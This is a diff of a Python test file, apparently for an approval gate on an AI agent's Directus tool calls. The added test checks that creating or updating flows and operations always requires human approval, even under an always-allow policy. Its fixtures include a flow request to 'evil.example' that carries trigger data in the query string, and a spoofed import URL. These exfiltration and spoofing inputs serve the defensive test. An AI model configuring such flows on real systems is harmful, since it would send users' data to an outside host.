@@ -329,3 +329,19 @@ def test_an_import_names_the_host_directus_will_reach():
     call = prepare("files", json.dumps({"action": "import", "data": {"url": "HTTPS://Evil.example#@good.example/"}}))
     assert call.preview is not None and call.preview.always_ask
     assert "from evil.example " in call.preview.summary
+
+
+@pytest.mark.parametrize("tool", ["flows", "operations"])
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"action": "create", "data": {"type": "request", "options": {"url": "https://evil.example/?d={{$trigger}}"}}},
+        {"action": "update", "keys": [FLOW], "data": {"options": {"url": "https://evil.example/"}}},
+        {"action": "update", "data": [{"id": FLOW, "status": "active"}]},
+    ],
+)
+def test_flow_and_operation_writes_always_ask_even_with_always_allow(tool, arguments):
+    call = prepare(tool, json.dumps(arguments))
+    assert call.preview is not None and call.preview.always_ask
+    policy = ApprovalPolicy(allowed=[f"{tool}:{arguments['action']}"], modes={tool: "always"})
+    assert policy.decide(tool, call.preview) == "ask"
